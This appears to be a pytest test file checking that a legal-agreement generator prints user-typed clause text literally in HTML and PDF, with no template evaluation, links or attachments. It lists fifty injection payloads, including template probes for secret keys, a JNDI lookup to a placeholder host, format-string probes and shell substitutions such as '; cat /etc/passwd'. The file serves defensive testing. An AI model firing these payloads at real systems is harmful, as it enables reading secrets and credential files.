"""What a legal team types in an article comes out as text: no request, no attachment, no template, no style."""

from __future__ import annotations

import dataclasses
from typing import Any

import pikepdf
import pytest

from documents.clauses.markdown import BadClause, check
from documents.render import render_pdf
from projects.agreement_terms import NO_TERMS, ClauseText
from projects.dossier import Dossier
from tests.documents import makers, pdf, words
from tests.documents.test_hostile_text import sink, vectors

__all__ = ["sink"]  # a fixture

# Fifty ways to be read by a template engine, a formatter or a shell.
PAYLOADS = """{{ c.lead }}
{{ settings.SECRET_KEY }}
{{ 7*7 }}
{{7*'7'}}
{{ self.__init__.__globals__ }}
{{ request.META }}
{% debug %}
{% include "print/style.css" %}
{% load static %}
{% csrf_token %}
{% verbatim %}x{% endverbatim %}
{% extends "base.html" %}
{# commentaire #}
{coordonnateur.__class__}
{coordonnateur.__init__.__globals__}
{event.__init__.__code__.co_filename}
{0}
{0.__class__}
{}
{coordonnateur!r}
{coordonnateur:>1000000000}
{coordonnateur[0]}
{coordonnateur[__class__]}
{ coordonnateur }
{COORDONNATEUR}
{coordonnateur|safe}
{projet.title}
${7*7}
${jndi:ldap://exemple.invalid/a}
#{7*7}
*{7*7}
@{7*7}
~{7*7}
<%= 7*7 %>
<% import os %>
<?php echo 7*7; ?>
[[7*7]]
[[${7*7}]]
<#assign x=7*7>
#set($x=7*7)
$!{x}
%(coordonnateur)s
%s%s%s%n
%7B%7B7*7%7D%7D
{{=7*7}}
{{#with "s"}}x{{/with}}
{{{7*7}}}
`id`
$(id)
; cat /etc/passwd""".splitlines()


def hostile(text: str, **changes: Any) -> Dossier:
    """Three communes whose article 14 and whose every free term is `text`."""
    free = (
        "court",
        "deputy",
        "depositary",
        "families",
        "schedule",
        "software_name",
        "scope",
        "base_software",
        "pilots",
    )
    terms = dataclasses.replace(NO_TERMS, **dict.fromkeys((*free, "licence", "forge_url"), text))
    codes = ("convention/14-retrait", "accord/19-arrivees-departs")
    own = tuple(ClauseText(code, text, amended=True) for code in codes)
    return makers.dossier(3, terms=terms, amendments=own, **changes)


def test_there_are_fifty_of_them() -> None:
    assert len(set(PAYLOADS)) == 50


@pytest.mark.parametrize("route", ["grouped_purchase", "shared_development"])
def test_fifty_payloads_print_literally(route: str) -> None:
    """As an article (a stored one: saving refuses most of them) and as a value of every free term."""
    for payload in PAYLOADS:
        said = words.of_html(makers.issued_html(hostile(payload, route=route)))
        plain = " ".join(payload.split())
        assert said.count(plain) >= 3, payload
        assert "49" not in said.split(), payload


def test_fifty_payloads_print_literally_in_the_pdf() -> None:
    said = pdf.text_of(pdf.pdf_of(makers.issued_html(hostile("\n\n".join(PAYLOADS)))), "-layout")
    assert [payload for payload in PAYLOADS if payload.replace(" ", "") not in said.replace(" ", "")] == []


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if "{" in payload or "}" in payload])
def test_a_payload_with_braces_is_refused_at_save(payload: str) -> None:
    with pytest.raises(BadClause):
        check(payload, ("coordonnateur", "objet"), ("parties",), ())


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if "{" not in payload and "}" not in payload])
def test_a_payload_without_braces_is_only_words(payload: str) -> None:
    check(payload, ("coordonnateur",), (), ())


@pytest.mark.parametrize("route", ["grouped_purchase", "shared_development"])
def test_hostile_markup_reaches_nothing_and_attaches_nothing_of_its_own(sink: str, route: str) -> None:
    text = "\n\n".join([*vectors(sink), f"![x]({sink}/md) [y]({sink}/link) <{sink}/auto> {sink}/bare"])
    page = makers.issued_html(hostile(text, route=route))
    file = pdf.opened(render_pdf(page))
    assert "/AF" not in file.Root or all("csv" in str(item.get("/F")) for item in file.Root.AF)
    links = [thing for thing in file.objects if isinstance(thing, pikepdf.Dictionary) and thing.get("/S") == "/URI"]
    assert links == []


def test_hostile_markup_is_printed_as_it_was_typed() -> None:
    for vector in vectors("http://exemple.invalid"):
        assert " ".join(vector.split()) in words.of_html(makers.issued_html(hostile(vector)))
